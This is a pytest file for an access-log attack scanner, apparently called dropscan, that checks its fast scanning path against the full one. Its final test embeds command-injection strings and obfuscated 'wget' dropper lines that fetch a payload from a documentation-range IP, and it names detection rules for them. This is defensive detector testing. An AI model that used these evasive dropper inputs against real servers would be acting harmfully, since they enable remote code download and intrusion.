"""The fast path (chunk grammar + prefilter) loses nothing: exactly the findings and the line
accounting of the full path, on the sample logs, the corpus and generated evasions."""

from __future__ import annotations

import pytest

from conftest import REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
from dropscan.logformat import LogFormat, compile_format
from dropscan.sources import Source, open_blocks

COMBINED = compile_format("combined")


def _compare(fast, full, chunk: bytes, fmt=COMBINED):
    a = fast.scan_chunk(chunk, fmt, log_file="x")
    b = full.scan_chunk(chunk, fmt, log_file="x")
    assert (a.lines, a.records, a.rejected) == (b.lines, b.records, b.rejected)
    assert [f.to_record() for f in a.findings] == [f.to_record() for f in b.findings]
    return b


def test_sample_logs(fast_scanner, full_scanner):
    for p in SAMPLE_LOGS.iterdir():
        data = b"".join(open_blocks(Source(str(p))))
        fmt = compile_format("vhost_combined" if "vhost" in p.name else "combined")
        res = _compare(fast_scanner, full_scanner, data, fmt)
        assert res.findings or "vhost" in p.name


def test_corpus(fast_scanner, full_scanner):
    lines = []
    for case in corpus_cases():
        if case["kind"] == "access_log_line":
            lines.append(case["text"].encode("utf-8", "surrogateescape"))
        elif case.get("log_line"):
            lines.append(case["log_line"].encode("utf-8", "surrogateescape"))
        else:
            lines.append(combined_line(case["text"]).rstrip(b"\n"))
            lines.append(combined_line("/", ua=case["text"]).rstrip(b"\n"))
    chunk = b"\n".join(ln.replace(b"\n", b" ") for ln in lines) + b"\n"
    res = _compare(fast_scanner, full_scanner, chunk)
    assert len(res.findings) > 1000


def test_real_lines_and_junk(fast_scanner, full_scanner):
    chunk = b"\n".join([*REAL_APACHE_LINES, b"junk", b"\xff\xfe", b""]) + b"\n"
    _compare(fast_scanner, full_scanner, chunk)


# Lines the fast path used to skip while the full path found something (the first found by
# tests/test_fuzz.py): quotes that the cmd view deletes where no quote marker looked.
UNQUOTED_HEADER = LogFormat('%h %l %u %t "%r" %>s %b %{X-Cmd}i')
PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '


@pytest.mark.parametrize(
    ("fmt", "line", "rule"),
    [
        # not a record (a vhost prefix under combined): its raw text holds the field quotes
        (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.command-injection"),
        # raw double quotes inside an unquoted field (a server that does not escape them)
        (UNQUOTED_HEADER, PREFIX + b';w""get%20http://203.0.113.9/x', "dropper.wget"),
        # a raw vertical tab, which the cmd view makes a space
        (UNQUOTED_HEADER, PREFIX + b";wget\x0bhttp://203.0.113.9/x", "dropper.wget"),
    ],
)
def test_quotes_and_spaces_the_cmd_view_removes_reach_the_fast_path(fast_scanner, full_scanner, fmt, line, rule):
    res = _compare(fast_scanner, full_scanner, line + b"\n", fmt)
    assert [f.rule_ids[0] for f in res.findings] == [rule]
